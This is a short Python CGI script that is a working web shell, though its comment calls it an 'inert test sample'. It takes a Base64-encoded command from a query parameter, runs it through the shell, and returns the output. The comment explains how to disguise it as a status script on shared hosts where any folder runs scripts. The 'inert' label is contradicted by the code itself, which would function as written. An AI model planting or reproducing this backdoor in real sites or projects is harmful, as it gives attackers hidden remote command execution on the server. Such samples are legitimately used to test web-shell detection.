#!/usr/bin/env python3
# inert test sample: a CGI command page named like a status script, outside any cgi-bin (shared
# hosts run .py and .pl through cgi-script in every folder); the command arrives Base64-encoded
import base64, cgi, subprocess

form = cgi.FieldStorage()
print("Content-Type: text/plain")
print()
c = base64.b64decode(form.getfirst("q", "aWQ=")).decode()
print(subprocess.run(c, shell=True, capture_output=True, text=True).stdout)
